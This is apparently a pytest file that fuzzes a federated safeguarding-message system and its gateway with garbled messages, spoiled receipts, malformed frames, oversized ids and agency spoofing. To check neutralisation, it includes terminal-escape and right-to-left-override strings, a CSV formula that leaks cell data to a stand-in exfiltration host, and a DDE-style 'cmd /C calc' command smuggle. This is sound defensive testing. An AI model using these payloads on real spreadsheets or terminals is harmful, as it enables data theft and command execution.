"""What a member's software may send that no node should, signed and sealed as any message
is: messages of every kind with their content garbled, receipts spoiled, frames on its
stream to the gateway, ids of any length and form, and text meant for the reader's
terminal. Each is stored whole or refused with its sender told; no store is left half
written, no view fails on what was stored, and no log takes what a member likes.
Built by tests/api_garbler.py, seeded as tests/test_api_garbage.py is."""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import io
import itertools
import json
import random
import time
from collections.abc import AsyncIterator, Callable
from contextlib import closing
from pathlib import Path
from typing import Any, cast

import grpc
import pytest
from google.protobuf.message import Message
from google.protobuf.message_factory import GetMessageClass

from gateway.db import GatewayDb
from gateway.metalog import MetaLog
from linkage import stories
from linkage.cli.spreadsheet import FORMULA_START
from linkage.cli.terminal import UNSAFE
from linkage.clock import ManualClock
from linkage.content import CONTENT
from linkage.frames import unbatch
from linkage.readonly import connect_read_only
from linkage.transport import MAX_MESSAGE_BYTES
from linkage.v1 import envelope_pb2, gateway_pb2, gateway_pb2_grpc, node_api_pb2, summary_pb2, workflow_pb2
from node import reception
from node.errors import ApiError
from node.server import NodeServer
from tests.api_garbler import Garbler
from tests.harness import (
    AGENCIES,
    PRACTITIONER,
    CapturedLogs,
    Cluster,
    LocalFederation,
    audit_events,
    linkage,
    running,
    wait_count,
)
from tests.test_api_garbage import (
    DEFECTS,
    SEED,
    TEXT,
    _every_workflow_under_way,
    _known,
    _shares_and_delivers,
    _whole,
)
from tests.test_federation import _case_id, open_case

MESSAGES = 300  # sent by a member whose software is wrong


async def test_a_member_s_garbage_message_is_stored_whole_or_refused_and_its_sender_told(
    federation: LocalFederation, captured_logs: CapturedLogs
) -> None:
    """A member whose software is wrong (or newer) signs and seals messages no node should
    send: every kind, its content filled at random or a valid summary spoiled, naming real
    messages, closures and cases. amh sends them to csc and csc to amh, each with every
    workflow under way. Each is stored whole or refused with a receipt saying why; none
    fails at storing, which would leave its sender sending it again until it expires; and
    each node can still show everything it took."""
    async with running(federation) as cluster:
        await _every_workflow_under_way(cluster)
        garbler = Garbler(random.Random(SEED + 2), *await _known(cluster))
        for sender, recipient in (("amh", "csc"), ("csc", "amh")):
            node = cluster.nodes[sender]
            assert node.store is not None
            tokens = [t for (t,) in await node.store.fetchall("SELECT DISTINCT token FROM case_people")]
            sent = [m for n in range(MESSAGES) if (m := await _send_garbage(node, recipient, garbler, tokens, n))]
            async with asyncio.timeout(60):
                ends = [await node.outbox.settled(message_id) for message_id in sent]
            assert len(sent) > MESSAGES * 0.75 and {"delivered", "undeliverable"} == set(ends), ends
            await _reads_all_it_took(cluster, recipient)
        for node in cluster.nodes.values():
            await _whole(node)
        await _shares_and_delivers(cluster)
    assert '"message.store_failed"' not in captured_logs.getvalue()


async def _reads_all_it_took(cluster: Cluster, node_id: str) -> None:
    """What a node stored, it can show: its inbox, each message opened, each case's
    chronology, closure, requests and challenges, and its duty view, without a defect."""
    api = cluster.api(node_id)
    listed = await api.ListReceived(node_api_pb2.ListReceivedRequest(actor=PRACTITIONER, limit=500))
    for item in listed.items:
        await api.OpenReceived(node_api_pb2.OpenReceivedRequest(actor=PRACTITIONER, message_id=item.message_id))
    await api.ListDue(node_api_pb2.DueRequest(actor=PRACTITIONER, within_days=365))
    cases = await api.FindCases(node_api_pb2.FindCasesRequest(actor=PRACTITIONER, include_closed=True))
    for case in cases.cases:
        asked = node_api_pb2.CaseRequest(actor=PRACTITIONER, case_id=case.case_id)
        for call in (api.GetClosure, api.ListInformationRequests, api.ListChallenges, api.DiscoverInvolvement):
            try:
                await call(asked)
            except grpc.aio.AioRpcError as exc:  # NOT_FOUND, where no closure was proposed
                assert exc.code() not in DEFECTS, f"{exc.code().name}: {exc.details()}"
        await api.Chronology(node_api_pb2.ChronologyRequest(actor=PRACTITIONER, case_id=case.case_id))
    store = cluster.nodes[node_id].store
    assert store is not None
    for (share_id,) in await store.fetchall("SELECT share_id FROM shares"):
        await api.GetShareStatus(node_api_pb2.ShareStatusRequest(actor=PRACTITIONER, share_id=share_id))


async def _linked_to_one_family(cluster: Cluster) -> tuple[NodeServer, list[bytes]]:
    """amh and csc each have a case for the same family: amh, and the family's link tokens."""
    family = stories.think_family_people()
    tokens = await open_case(cluster, "amh", family)
    await open_case(cluster, "csc", family)
    return cluster.nodes["amh"], tokens


def _amh_shares(tokens: list[bytes], summary_id: str) -> summary_pb2.RiskSummary:
    """A summary as amh sends one: its own, of its agency type, decided shared."""
    summary = stories.parent_risk_change(tokens[0], tokens[-1])
    summary.summary_id, summary.originating_node, summary.agency_type = summary_id, "amh", AGENCIES["amh"][1]
    summary.decision.CopyFrom(stories.override_decision())
    summary.decision.outcome = summary_pb2.DECISION_OUTCOME_SHARED
    return summary


def _amh_joins(
    tokens: list[bytes],
    agency_name: str = AGENCIES["amh"][0],
    agency_type: str = AGENCIES["amh"][1],
    contact_role: str = "Duty team",
) -> Callable[[envelope_pb2.MessageBody], None]:
    """amh's notice that it has joined the family: by default as its node writes one."""
    notice = workflow_pb2.InvolvementNotice(
        joined=True, link_tokens=tokens, agency_name=agency_name, agency_type=agency_type, contact_role=contact_role
    )
    return lambda body: body.involvement.CopyFrom(notice)


async def _send(
    node: NodeServer,
    to: str,
    kind: envelope_pb2.MessageKind.ValueType,
    tokens: list[bytes],
    share_id: str,
    fill: Callable[[envelope_pb2.MessageBody], None],
) -> str:
    """A message to `to` signed, sealed and queued as the node sends any, with content no
    policy made: its id."""
    assert node.store is not None
    sealed = await node.ctx.messenger.seal_each([to], kind, tokens, share_id, lambda _: fill, PRACTITIONER)
    async with node.store.tx() as tx:
        (queued,) = await node.ctx.messenger.queue(tx, sealed, share_id, PRACTITIONER)
    return queued.message_id


async def _send_garbage(node: NodeServer, to: str, garbler: Garbler, tokens: list[bytes], n: int) -> str:
    """One garbage message: its id, or "" if it was too large to be sent at all."""
    kind = envelope_pb2.MessageKind.ValueType(garbler.rng.choice(list(CONTENT)))
    try:
        return await _send(
            node, to, kind, tokens, f"garbage-{n}", _garbage_content(garbler, kind, tokens, node.config.node_id)
        )
    except ApiError:
        return ""


def _garbage_content(
    garbler: Garbler, kind: int, tokens: list[bytes], sender: str
) -> Callable[[envelope_pb2.MessageBody], None]:
    """What a message of `kind` carries, wrongly: a valid summary of `sender`'s spoiled, or
    its content (or another kind's) filled at random."""

    def fill(body: envelope_pb2.MessageBody) -> None:
        if CONTENT.get(kind) == "summary" and garbler.rng.random() < 0.5:
            summary = stories.parent_risk_change(tokens[0], tokens[-1])
            summary.summary_id, summary.originating_node = f"s-{garbler.rng.randrange(10**6)}", sender
            summary.agency_type = AGENCIES[sender][1]
            summary.decision.CopyFrom(stories.override_decision())
            body.summary.MergeFromString(garbler.spoil(summary, garbler.rng.choice((1, 2, 3))).SerializeToString())
            return
        field = CONTENT.get(kind) if garbler.rng.random() < 0.8 else None
        field = field or garbler.rng.choice(sorted(set(CONTENT.values())))
        content: Any = envelope_pb2.MessageBody.DESCRIPTOR.fields_by_name[field].message_type
        getattr(body, field).CopyFrom(garbler.message(GetMessageClass(content)))

    return fill


async def test_a_challenge_with_an_empty_date_is_listed_with_none(federation: LocalFederation) -> None:
    """A member's software writes an empty respond_by into a challenge: csc takes it as no
    date given, and lists the challenge (not a date of 0000-00-00 that breaks the list)."""
    async with running(federation, nodes=("amh", "csc")) as cluster:
        amh, tokens = await _linked_to_one_family(cluster)
        raised = workflow_pb2.Challenge(stage="PRACTITIONER", concern=TEXT, link_tokens=tokens)
        raised.respond_by.SetInParent()  # present, and empty
        kind = envelope_pb2.MESSAGE_KIND_CHALLENGE
        sent = await _send(amh, "csc", kind, tokens, "empty-date", lambda body: body.challenge.CopyFrom(raised))
        assert await amh.outbox.settled(sent) == "delivered"
        asked = node_api_pb2.CaseRequest(actor=PRACTITIONER, case_id=await _case_id(cluster, "csc"))
        (listed,) = (await cluster.api("csc").ListChallenges(asked)).received
        assert (listed.message_id, listed.HasField("respond_by"), listed.overdue) == (sent, False, False)


RECEIPTS = 40  # shares whose receipts come back spoiled


async def test_a_member_s_garbage_receipts_leave_its_peer_whole_and_every_message_settles(
    federation: LocalFederation, monkeypatch: pytest.MonkeyPatch, captured_logs: CapturedLogs
) -> None:
    """csc's software signs receipts no node should: a status no node knows, a reason of any
    length, a receipt time at either end of the clock, a checkpoint of nonsense, another
    envelope's digest. amh takes each it can verify and ignores the rest, then re-sends
    those (and those deferred); once csc mends, every message settles, and amh shows each
    share's delivery, having logged nothing csc wrote at length."""
    quick = dataclasses.replace(federation.node_configs["amh"].delivery, receipt_timeout_ms=300)
    async with running(federation, nodes=("csc",)) as cluster:
        amh = await cluster.start_node("amh", delivery=quick)
        _, tokens = await _linked_to_one_family(cluster)
        recorded = await cluster.api("amh").RecordAssessment(
            node_api_pb2.RecordAssessmentRequest(
                actor=PRACTITIONER,
                case_id=await _case_id(cluster, "amh"),
                assessment=stories.parent_risk_change(tokens[0], tokens[-1]),
            )
        )
        garbler = Garbler(random.Random(SEED + 3), ["amh", "csc", TEXT], tokens)
        spoiled = frozenset({"status", "reason", "received_at_ms", "checkpoint", "envelope_sha256"})

        made = itertools.count()

        class Spoiling:
            """envelope_pb2 as node.reception sees it: each receipt body it makes, spoiled, and
            every fifth saying "not yet" for a reason of csc's own (whatever the seed spoils)."""

            def __getattr__(self, name: str) -> Any:
                return getattr(envelope_pb2, name)

            def ReceiptBody(self, **fields: Any) -> Message:
                body = garbler.spoil(envelope_pb2.ReceiptBody(**fields), garbler.rng.choice((1, 2, 3)), spoiled)
                if next(made) % 5 == 0:
                    body.status, body.reason = envelope_pb2.RECEIPT_STATUS_DEFERRED, TEXT * 100  # type: ignore[attr-defined]
                return body

        with monkeypatch.context() as patched:  # the receipts csc makes (and amh's, for csc's notices)
            patched.setattr(reception, "envelope_pb2", Spoiling())
            shares = [
                await cluster.api("amh").ShareSummary(
                    node_api_pb2.ShareSummaryRequest(
                        actor=PRACTITIONER, assessment_id=recorded.assessment_id, decision=stories.override_decision()
                    )
                )
                for _ in range(RECEIPTS)
            ]
            await wait_count(cluster.nodes["csc"], "SELECT COUNT(DISTINCT message_id) FROM inbox", (), RECEIPTS)
        async with asyncio.timeout(60):
            ends = [await amh.outbox.settled(r.message_id) for s in shares for r in s.recipients]
        assert set(ends) <= {"delivered", "undeliverable"} and "delivered" in ends, ends
        for shared in shares:
            await cluster.api("amh").GetShareStatus(
                node_api_pb2.ShareStatusRequest(actor=PRACTITIONER, share_id=shared.share_id)
            )
        await _reads_all_it_took(cluster, "amh")
        for node in cluster.nodes.values():
            await _whole(node)
    logged = captured_logs.records()
    assert not [e for e in logged if e["level"] == "error"]
    assert any(e["event"] == "receipt.rejected" for e in logged)  # some could not be verified, and were not taken
    deferred = [e["reason"] for e in logged if e["event"] == "message.deferred"]  # some said "not yet"; went again
    assert deferred and set(deferred) <= {"future", "stale", "expired", "reason unknown"}, deferred  # not csc's text
    assert not [e for e in logged if len(json.dumps(e)) > 2_000]  # nothing the member wrote, at length


async def test_text_from_another_agency_cannot_act_on_the_reader_s_terminal(federation: LocalFederation) -> None:
    """A member's summary carries a screen-clearing escape sequence, a carriage return that
    would print LOW over HIGH, and a right-to-left override. `linkage inbox open` at csc
    shows each as its escape, in text and in JSON (where it reads back as sent)."""
    hostile = "Risk is HIGH\r LOW\x1b[2J\x1b]0;retitled\x07 and \u202eHGIH si ksiR\u202c"
    async with running(federation, nodes=("amh", "csc")) as cluster:
        amh, tokens = await _linked_to_one_family(cluster)
        summary = _amh_shares(tokens, "s-hostile")
        summary.headline = hostile
        kind = envelope_pb2.MESSAGE_KIND_SUMMARY_SHARE
        sent = await _send(amh, "csc", kind, tokens, "hostile", lambda body: body.summary.CopyFrom(summary))
        assert await amh.outbox.settled(sent) == "delivered"
        reader = ["--actor-id", "csc-1", "--actor-role", "Social worker"]
        reader += ["--socket", str(cluster.nodes["csc"].config.api_socket)]
        code, text, err = await linkage("inbox", "open", sent, *reader)
        assert code == 0, err
        code, as_json, err = await linkage("inbox", "open", sent, "--json", *reader)
        assert code == 0, err
    for shown in (text, as_json):
        assert not UNSAFE.search(shown) and "\r" not in shown
    assert "Risk is HIGH\\u000d LOW\\u001b[2J\\u001b]0;retitled\\u0007 and \\u202eHGIH si ksiR\\u202c" in text
    assert json.loads(as_json)["body"]["summary"]["headline"] == hostile


async def test_a_summary_or_notice_crediting_another_agency_is_refused_and_the_sender_told(
    federation: LocalFederation,
) -> None:
    """amh, an NHS mental health trust, sends csc a summary and an involvement notice that
    each say a police force wrote them, a notice of its own type giving the police's name,
    and one giving another contact role than its own. csc refuses all four as malformed
    before storing any, its audit log says why, and amh's outbox says the recipient refused
    them; the notice as amh's node writes it is taken."""
    async with running(federation, nodes=("amh", "csc")) as cluster:
        amh, tokens = await _linked_to_one_family(cluster)
        summary = _amh_shares(tokens, "s-as-police")
        summary.agency_type = "POLICE"
        police_name, police_type = AGENCIES["police"]
        kind = envelope_pb2.MESSAGE_KIND_INVOLVEMENT_NOTICE
        share = await _send(
            amh,
            "csc",
            envelope_pb2.MESSAGE_KIND_SUMMARY_SHARE,
            tokens,
            "as-police",
            lambda b: b.summary.CopyFrom(summary),
        )
        notices = [
            await _send(amh, "csc", kind, tokens, share_id, fill)
            for share_id, fill in (
                ("as-police", _amh_joins(tokens, agency_name=police_name, agency_type=police_type)),
                ("named-police", _amh_joins(tokens, agency_name=police_name)),
                ("police-role", _amh_joins(tokens, contact_role="Public protection unit")),
            )
        ]
        sent = [share, *notices]
        assert [await amh.outbox.settled(m) for m in sent] == ["undeliverable"] * 4
        own = await _send(amh, "csc", kind, tokens, "joined", _amh_joins(tokens))
        assert await amh.outbox.settled(own) == "delivered"
        assert amh.store is not None
        reasons = await amh.store.fetchall("SELECT reason FROM outbox WHERE message_id IN (?, ?, ?, ?)", tuple(sent))
        assert reasons == [("refused by the recipient: malformed",)] * 4
        why = {e["message_id"]: e["detail"] for e in await audit_events(cluster.nodes["csc"], "message.rejected")}
        given = "another agency type than its sender's in the directory (NHS_MENTAL_HEALTH)"
        notice = "the involvement notice gives"
        assert why == {
            share: {"reason": "malformed", "why": f"the summary gives {given}"},
            notices[0]: {"reason": "malformed", "why": f"{notice} {given}"},
            notices[1]: {
                "reason": "malformed",
                "why": f"{notice} another agency name than its sender's in the directory (Adult Mental Health Trust)",
            },
            notices[2]: {
                "reason": "malformed",
                "why": f"{notice} another contact role than its sender's in the directory (Duty team)",
            },
        }
        listed = await cluster.api("csc").ListReceived(node_api_pb2.ListReceivedRequest(actor=PRACTITIONER))
        assert [item.message_id for item in listed.items] == [own]


async def test_text_from_another_agency_opens_as_text_in_an_ig_officer_s_spreadsheet_and_report(
    federation: LocalFederation, tmp_path: Path
) -> None:
    """A member's summary carries spreadsheet formulas where its rationale and decider go,
    and a right-to-left override in its headline and decider's role. At csc, the register's
    and the audit export's CSV hold each formula behind an apostrophe, as text, and no
    control character; the subject access report shows the override as its escape; the
    JSON lines keep the rationale as it was sent."""
    rationale = '=HYPERLINK("https://exfil.example/?"&A2,"Open the record")'
    decider = "@SUM(1+1)*cmd|' /C calc'!A0"
    role = "Care \u202eeroc\u202c"
    async with running(federation, nodes=("amh", "csc")) as cluster:
        amh, tokens = await _linked_to_one_family(cluster)
        summary = _amh_shares(tokens, "s-formulas")
        summary.headline = "-1 Risk is \u202eHGIH\u202c"
        summary.decision.rationale = rationale
        summary.decision.decided_by.name, summary.decision.decided_by.role = decider, role
        kind = envelope_pb2.MESSAGE_KIND_SUMMARY_SHARE
        sent = await _send(amh, "csc", kind, tokens, "formulas", lambda body: body.summary.CopyFrom(summary))
        assert await amh.outbox.settled(sent) == "delivered"
        csc = ["--config", str(federation.node_configs["csc"].data_dir / "node.toml")]
        register, exported, lines, page = (tmp_path / n for n in ("register.csv", "audit.csv", "audit.jsonl", "r.html"))
        for command in (
            ("register", "--csv", str(register)),
            ("export", "--format", "csv", "--out", str(exported)),
            ("export", "--format", "jsonl", "--out", str(lines)),
            ("report", "--person", f"nhs:{stories.PARENT_NHS}", "--html", str(page)),
        ):
            code, _, err = await linkage("audit", *command, *csc)
            assert code == 0, err
    tables = {
        path.name: list(csv.DictReader(io.StringIO(path.read_text(), newline=""))) for path in (register, exported)
    }
    for name, rows in tables.items():
        cells = [value for row in rows for value in row.values()]
        assert not [c for c in cells if c.startswith(FORMULA_START) or UNSAFE.search(c)], name
    (received,) = [row for row in tables["register.csv"] if row["id"] == sent]
    assert received["why"] == "'" + rationale
    assert received["by"] == "'" + decider + " (Care \\u202eeroc\\u202c) at the sender"
    (entry,) = [row for row in tables["audit.csv"] if row["message_id"] == sent and row["event"] == "message.received"]
    assert entry["rationale"] == "'" + rationale
    as_sent = [json.loads(line) for line in lines.read_text().splitlines()]
    assert [e["rationale"] for e in as_sent if e["message_id"] == sent and e["event"] == "message.received"] == [
        rationale
    ]
    shown = page.read_text()
    assert not UNSAFE.search(shown) and "-1 Risk is \\u202eHGIH\\u202c" in shown


FRAMES = 3_000  # on a member's stream to the gateway


async def test_a_member_s_garbage_frames_leave_the_gateway_routing_and_log_no_error(
    federation: LocalFederation, captured_logs: CapturedLogs
) -> None:
    """amh's software writes frames no node should on its stream to the gateway: envelopes
    with spoiled routing headers (to csc, to itself, to nobody; any kind, tokens, times,
    key), resolves, receipts of nonsense, and batches of them. The gateway answers or ends
    the stream with a status saying why, never with a defect; a new stream carries on; and
    afterwards it still routes a share from amh to csc."""
    async with running(federation, nodes=("csc",)) as cluster:
        tokens = await open_case(cluster, "csc", stories.think_family_people())
        garbler = Garbler(random.Random(SEED + 4), ["amh", "csc", "nobody", TEXT], tokens)
        stub = gateway_pb2_grpc.GatewayStub(cluster.gateway_channel("amh"))
        ended: set[str] = set()
        sent = 0

        async def frames() -> AsyncIterator[gateway_pb2.NodeFrame]:
            """Until all are sent, or the gateway ends the stream (then gRPC stops asking)."""
            nonlocal sent
            while sent < FRAMES:
                frame = _garbage_frame(garbler, tokens, sent)
                if frame.ByteSize() <= MAX_MESSAGE_BYTES:  # larger, this client's gRPC refuses it (S8: the gateway's)
                    sent += 1
                    yield frame

        while sent < FRAMES:  # a stream the gateway ends, and then another
            ended.add(await _drain(stub.Connect(frames())))
        assert ended <= {"OK", "INVALID_ARGUMENT", "PERMISSION_DENIED", "ENDED_BY_THE_GATEWAY"}, ended
        await cluster.start_node("amh")
        await open_case(cluster, "amh", stories.think_family_people(), case_ref="after")
        await _shares_and_delivers(cluster)
        with closing(connect_read_only(federation.gateway_config.store_path)) as gateway_store:
            assert gateway_store.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    logged = captured_logs.records()
    assert not [e for e in logged if e["level"] == "error"], [e for e in logged if e["level"] == "error"][:3]
    refusals = {e["outcome"] for e in logged if e["event"] == "stream.refused"}
    assert refusals and refusals <= {"INVALID_ARGUMENT", "PERMISSION_DENIED"}, refusals


async def _drain(call: Any) -> str:
    """Read a stream's answers until it ends: how it ended."""
    try:
        async for _ in call:
            pass
    except grpc.aio.AioRpcError as exc:
        if exc.code() == grpc.StatusCode.INTERNAL and 'Failed "execute_batch"' in (exc.debug_error_string() or ""):
            # grpc/grpc#36066: a write that meets the end of the stream overwrites the status
            # the gateway sent with this; the gateway's log has what it said.
            return "ENDED_BY_THE_GATEWAY"
        return exc.code().name
    return "OK"


def _garbage_frame(garbler: Garbler, tokens: list[bytes], n: int) -> gateway_pb2.NodeFrame:
    """An envelope with a spoiled header, a resolve, a nonsense receipt, or a batch of them."""
    pick = garbler.rng.random()
    if pick < 0.1:
        return gateway_pb2.NodeFrame(
            batch=gateway_pb2.NodeFrames(frames=[_garbage_frame(garbler, tokens, n) for _ in range(3)])
        )
    if pick < 0.6:
        now = int(time.time() * 1000)
        header = envelope_pb2.RoutingHeader(
            message_id=f"m-{n}",
            sender_node="amh",
            recipient_node="csc",
            link_tokens=tokens,
            created_at_ms=now,
            expires_at_ms=now + 3_600_000,
            kind=envelope_pb2.MESSAGE_KIND_SUMMARY_SHARE,
        )
        spoiled = garbler.spoil(header, garbler.rng.choice((1, 2)), ROUTING_SPOILED)
        envelope = envelope_pb2.Envelope(routing=spoiled.SerializeToString(), ciphertext=garbler.rng.randbytes(64))
        return gateway_pb2.NodeFrame(send=envelope)
    if pick < 0.8:
        asked = gateway_pb2.ResolveRecipientsRequest(node_id="amh", link_tokens=tokens, request_id=n)
        spoiled = garbler.spoil(asked, 1, frozenset({"link_tokens", "request_id"}))
        return gateway_pb2.NodeFrame(resolve=cast(gateway_pb2.ResolveRecipientsRequest, spoiled))
    return gateway_pb2.NodeFrame(receipt=cast(envelope_pb2.Receipt, garbler.message(envelope_pb2.Receipt)))


# All but the sender: a header naming another sender is spoofing, which ends the stream at
# once (S7), and would leave the rest untried.
ROUTING_SPOILED = frozenset(envelope_pb2.RoutingHeader.DESCRIPTOR.fields_by_name) - {"sender_node"}


async def test_a_metadata_log_entry_holds_whatever_id_it_is_given_and_its_batch_commits(tmp_path: Path) -> None:
    """An id holding the separator the pending entries are kept with (NUL) once failed the
    whole flush, and the entries batched with it were lost."""
    db = await GatewayDb.open(tmp_path / "gateway.sqlite")
    try:
        log = MetaLog(db, ManualClock(), "gateway")
        log.record("envelope.rejected", "amh", message_id="m\x00with\x00nuls", outcome="malformed")
        log.record("envelope.forwarded", "csc", counterpart="amh", message_id="m-2")
        await log.flush()
        rows = await db.read("SELECT entry FROM metalog ORDER BY seq")
    finally:
        await db.close()
    entries = [json.loads(entry) for (entry,) in rows]
    assert [(e["message_id"], e["decision"]) for e in entries] == [("m\x00with\x00nuls", "malformed"), ("m-2", "")]


def _gateway_logs_without_nonsense(federation: LocalFederation, captured_logs: CapturedLogs) -> list[dict[str, Any]]:
    """The gateway's metadata log, once it and the operational log are shown to hold none of
    the nonsense (long runs of x, NULs) the tests send."""
    with closing(connect_read_only(federation.gateway_config.store_path)) as gateway_store:
        entries = [json.loads(e) for (e,) in gateway_store.execute("SELECT entry FROM metalog ORDER BY seq")]
    logged = captured_logs.records()
    for said in (entries, logged):
        text = json.dumps(said)
        assert "x" * 100 not in text and "\\u0000" not in text
    return entries


async def test_ids_a_node_sends_in_no_form_the_federation_gives_are_left_out_of_the_gateway_s_logs(
    federation: LocalFederation, captured_logs: CapturedLogs
) -> None:
    """An envelope whose message id is 100 KB of nonsense, and a receipt naming a sender no
    node id could be: the gateway refuses or drops them, and records each without the id,
    flagged, in its metadata log and its operational log alike."""
    nonsense = "\x00\u202e" + "x" * 100_000
    async with running(federation, nodes=("csc",)) as cluster:
        stub = gateway_pb2_grpc.GatewayStub(cluster.gateway_channel("amh"))
        call = stub.Connect()
        routing = envelope_pb2.RoutingHeader(message_id=nonsense, sender_node="amh", recipient_node="csc")
        await call.write(gateway_pb2.NodeFrame(send=envelope_pb2.Envelope(routing=routing.SerializeToString())))
        frame = await call.read()
        assert isinstance(frame, gateway_pb2.GatewayFrame)
        (answer,) = unbatch(frame)
        assert answer.send_ack.status == gateway_pb2.SEND_STATUS_REJECTED
        receipt = envelope_pb2.ReceiptBody(message_id=nonsense, sender_node=nonsense, recipient_node="amh")
        await call.write(gateway_pb2.NodeFrame(receipt=envelope_pb2.Receipt(body=receipt.SerializeToString())))
        await call.done_writing()
        assert await call.read() == grpc.aio.EOF
    entries = _gateway_logs_without_nonsense(federation, captured_logs)
    (rejected,) = [e for e in entries if e["event"] == "envelope.rejected"]
    assert (rejected["message_id"], rejected["detail"]) == ("", {"message_id_malformed": True})
    (dropped,) = [e for e in entries if e["event"] == "receipt.dropped"]
    assert dropped["detail"] == {"message_id_malformed": True, "counterpart_malformed": True}


async def test_a_node_id_a_refused_call_claims_is_left_out_of_the_gateway_s_logs(
    federation: LocalFederation, captured_logs: CapturedLogs
) -> None:
    """A control call naming a node that is not the caller is refused before anything in it
    is trusted: the name it claims is recorded only if it is in the form a node id takes."""
    nonsense = "\x00\u202e" + "x" * 100_000
    async with running(federation, nodes=()) as cluster:
        stub = gateway_pb2_grpc.GatewayStub(cluster.gateway_channel("amh"))
        for claimed in (nonsense, "csc"):
            with pytest.raises(grpc.aio.AioRpcError) as refused:
                await stub.Subscribe(gateway_pb2.SubscribeRequest(node_id=claimed, link_tokens=[bytes(32)]))
            assert refused.value.code() == grpc.StatusCode.PERMISSION_DENIED
    entries = _gateway_logs_without_nonsense(federation, captured_logs)
    refusals = [e for e in entries if e["event"] == "subscribe.refused"]
    assert [(e["actor"]["id"], e["detail"]) for e in refusals] == [("", {"node_malformed": True}), ("csc", {})]


async def test_a_refused_message_s_ids_are_recorded_only_in_the_forms_the_federation_gives(
    federation: LocalFederation,
) -> None:
    """Nothing in a message a node refuses is verified: a gateway that is not what it should
    be delivers one whose header names a 100 KB message id and a sender no node id could be.
    csc audits the refusal without either, flagged, and quotes only so much of it."""
    nonsense = "\x00\u202e" + "x" * 100_000
    async with running(federation, nodes=("csc",)) as cluster:
        csc = cluster.nodes["csc"]
        assert csc.store is not None
        routing = envelope_pb2.RoutingHeader(message_id=nonsense, sender_node=nonsense, recipient_node="csc")
        await csc.reception.on_envelopes([envelope_pb2.Envelope(routing=routing.SerializeToString())])
        (rejected,) = await audit_events(csc, "message.rejected")
    assert (rejected["message_id"], rejected["counterpart"]) == ("", "")
    assert rejected["detail"]["message_id_malformed"] and rejected["detail"]["counterpart_malformed"]
    assert len(rejected["detail"]["why"]) < 300  # what it quotes, cut short
